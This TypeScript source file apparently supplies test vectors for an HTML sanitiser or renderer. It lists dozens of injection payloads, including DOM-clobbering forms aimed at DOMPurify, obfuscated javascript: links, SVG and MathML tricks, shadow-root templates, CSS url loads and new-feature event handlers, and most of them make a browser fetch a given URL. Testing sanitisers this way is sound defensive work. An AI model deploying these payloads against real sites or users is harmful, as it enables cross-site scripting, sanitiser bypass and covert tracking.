import type { Vector } from './vector';

const link = (name: string, href: (url: string) => string): Vector => ({
  name,
  html: (url, words) => `<a href="${href(url)}">${words}</a>`,
  carriesWords: true,
});

/** Names that shadow the document's own, disguised addresses, and recent features of browsers. */
export const modernVectors: readonly Vector[] = [
  ...['attributes', 'nodeName', 'childNodes', 'parentNode', 'firstChild', 'removeChild'].map(
    (name): Vector => ({
      name: `form that shadows ${name}`,
      html: (url) =>
        `<form onclick=x action="${url}"><input name=${name}><input id=${name}></form>`,
    }),
  ),
  {
    name: 'form that shadows the owner document',
    html: () =>
      '<form id=ownerDocument><input name=textContent><input name=insertAdjacentHTML></form>',
  },
  {
    name: 'collections that shadow the configuration',
    html: () =>
      '<a id=config></a><a id=config name=ALLOWED_TAGS href="clobber:script"></a><form id=DOMPurify>',
  },
  {
    name: 'frame that shadows a global',
    html: (url) =>
      `<iframe name=desk srcdoc="<a id=profile:get-state href='${url}'></a>"></iframe>`,
  },
  {
    name: 'properties of every object',
    html: () =>
      '<p __proto__.tagNameCheck="/.*/" constructor.prototype.src=x hasOwnProperty=1 toString=2>x</p>',
  },
  {
    name: 'customised built-in',
    html: (url, words) =>
      `<p is="x-load" src="${url}">${words}</p><button is=fancy-button>x</button>`,
    carriesWords: true,
  },
  {
    name: 'custom element with a slot',
    html: (url, words) =>
      `<x-view><slot name=a></slot><i slot=a data-src="${url}">${words}</i></x-view>`,
    carriesWords: true,
  },
  {
    name: 'closed shadow root',
    html: (url) =>
      `<section><template shadowrootmode=closed><img src="${url}"></template></section>`,
  },
  {
    name: 'shadow root of the old kind',
    html: (url) =>
      `<div><template shadowroot=open><link rel=stylesheet href="${url}"></template></div>`,
  },
  {
    name: 'shadow root inside a template',
    html: (url) =>
      `<template><div><template shadowrootmode=open><img src="${url}"></template></div></template>`,
  },
  {
    name: 'serialisable shadow root',
    html: (url) =>
      `<div><template shadowrootmode=open shadowrootserializable shadowrootclonable><style>@import "${url}"</style></template></div>`,
  },
  link('javascript link with a tab', (url) => `java\tscript:new Image().src='${url}'`),
  link('javascript link with a line feed', (url) => `java\nscript:new Image().src='${url}'`),
  link('javascript link behind controls', (url) => `&#1;&#x1f; javascript:fetch('${url}')`),
  link('javascript link with leading space', (url) => `\u00a0\u2003javascript:fetch('${url}')`),
  link('javascript link in capitals', (url) => `JaVaScRiPt&#58;fetch('${url}')`),
  link('javascript link without semicolons', (url) => `&#0000106&#97&#118ascript:fetch('${url}')`),
  link('vbscript link', () => 'vbscript:MsgBox(1)'),
  link('blob link', () => 'blob:null/6a2c7b1e'),
  link('link to the window itself', () => 'app://bundle/index.html'),
  link('link to a registered program', () => 'ms-msdt:/id PCWDiagnostic'),
  link('data svg link', (url) => `data:image/svg+xml,<svg onload=fetch('${url}')>`),
  {
    name: 'data image with a parameter',
    html: (url) => `<img src="data:image/png;x=<img src=${url}>;base64,AAAA" alt="">`,
  },
  {
    name: 'svg in a base64 image',
    html: (url) =>
      `<img src="data:image/svg+xml;base64,${btoa(`<svg><image href="${url}"/></svg>`)}">`,
  },
  {
    name: 'svg set changes a link',
    html: (url) =>
      `<svg><a id=x><set attributeName=href to="javascript:fetch('${url}')"/></a></svg>`,
  },
  {
    name: 'svg animation by reference',
    html: (url) =>
      `<svg><animate xlink:href=#x attributeName=href values="${url}"/><image id=x /></svg>`,
  },
  {
    name: 'svg handler element',
    html: (url) =>
      `<svg><handler type="text/javascript" ev:event=load>fetch('${url}')</handler></svg>`,
  },
  {
    name: 'svg use of data',
    html: (url) =>
      `<svg><use href="data:image/svg+xml,<svg id=x><image href='${url}'/></svg>#x"/></svg>`,
  },
  {
    name: 'mathml action',
    html: (url) => `<math><maction actiontype=statusline xlink:href="${url}">x`,
  },
  {
    name: 'button with a command',
    html: (_url, words) =>
      `<button command=show-modal commandfor=d>x</button><dialog id=d>${words}</dialog>`,
    carriesWords: true,
  },
  {
    name: 'interest opens a popover',
    html: (_url, words) => `<a interestfor=p href="#">x</a><div id=p popover=hint>${words}</div>`,
    carriesWords: true,
  },
  {
    name: 'popover that announces itself',
    html: (url) =>
      `<div popover onbeforetoggle="fetch('${url}')" id=q>x</div><button popovertarget=q>`,
  },
  {
    name: 'details of one name',
    html: (_url, words) => `<details name=a open><summary>x</summary>${words}</details>`,
    carriesWords: true,
  },
  {
    name: 'text found by search',
    html: (url, words) => `<p hidden=until-found onbeforematch="fetch('${url}')">${words}</p>`,
    carriesWords: true,
  },
  {
    name: 'content visibility handler',
    html: (url, words) =>
      `<p style="content-visibility:auto" oncontentvisibilityautostatechange="fetch('${url}')">${words}</p>`,
    carriesWords: true,
  },
  {
    name: 'scroll handlers',
    html: (url, words) => `<p onscrollend="fetch('${url}')" onscrollsnapchange=x>${words}</p>`,
    carriesWords: true,
  },
  {
    name: 'prerender rules',
    html: (url) =>
      `<script type=speculationrules>{"prerender":[{"where":{"href_matches":"${url}*"}}]}</script>`,
  },
  {
    name: 'shared storage and attribution',
    html: (url) => `<img attributionsrc="${url}" sharedstoragewritable browsingtopics alt="">`,
  },
  {
    name: 'attribution of a link',
    html: (url, words) => `<a attributionsrc="${url}" href="#">${words}</a>`,
    carriesWords: true,
  },
  {
    name: 'credentials and privacy of a frame',
    html: (url) =>
      `<iframe credentialless allow="camera *" csp="script-src *" src="${url}"></iframe>`,
  },
  {
    name: 'early hints of an image',
    html: (url) => `<link rel=preload imagesrcset="${url} 1x" as=image>`,
  },
  { name: 'expected element', html: (url) => `<link rel=expect href="${url}#x" blocking=render>` },
  { name: 'dictionary', html: (url) => `<link rel=compression-dictionary href="${url}">` },
  { name: 'payment manifest', html: (url) => `<link rel=payment-method-manifest href="${url}">` },
  {
    name: 'refresh header of another case',
    html: (url) => `<META HTTP-EQUIV="REFRESH" CONTENT="0; URL='${url}'">`,
  },
  { name: 'referrer and colour of the page', html: () => '<meta name=color-scheme content=dark>' },
  {
    name: 'policy that opens everything',
    html: (url) =>
      `<meta http-equiv=Content-Security-Policy content="img-src *"><img src="${url}" alt="">`,
  },
  {
    name: 'old behaviours of styles',
    html: (url, words) =>
      `<p style="behavior:url(${url});-moz-binding:url(${url});width:expression(fetch('${url}'))">${words}</p>`,
    carriesWords: true,
  },
  {
    name: 'style import with a layer',
    html: (url) => `<style>@import "${url}" layer(a) supports(x:y);`,
  },
  {
    name: 'style of printing pages',
    html: (url) =>
      `<style>@page{background:url(${url})}@media print{p::before{content:url(${url})}}`,
  },
  {
    name: 'paint, property and counter styles',
    html: (url) =>
      `<style>@property --x{syntax:"<url>";inherits:true;initial-value:url(${url})}@counter-style c{symbols:url(${url})}</style>`,
  },
  {
    name: 'frame of an old kind',
    html: (url) => `<ilayer src="${url}"></ilayer><layer src="${url}"></layer>`,
  },
  {
    name: 'sound and key',
    html: (url) => `<bgsound src="${url}"><keygen name=k form=f challenge="${url}">`,
  },
  {
    name: 'object with a fallback',
    html: (url) => `<object data="x:"><param name=src value="${url}"><embed src="${url}"></object>`,
  },
  {
    name: 'picture in many formats',
    html: (url) =>
      `<picture><source type=image/avif srcset="${url} 1x"><img src="${url}" sizes=auto alt=""></picture>`,
  },
  {
    name: 'output bound to a form',
    html: (url, words) =>
      `<form action="${url}" oninput=x><output for=a>${words}</output><input type=submit>`,
    carriesWords: true,
  },
  {
    name: 'quotation and time sources',
    html: (url, words) => `<q cite="${url}">${words}</q><ins cite="${url}" datetime=x></ins>`,
    carriesWords: true,
  },
  {
    name: 'item with an id elsewhere',
    html: (url, words) => `<p itemscope itemtype="${url}" itemid="${url}" itemref=a>${words}</p>`,
    carriesWords: true,
  },
];
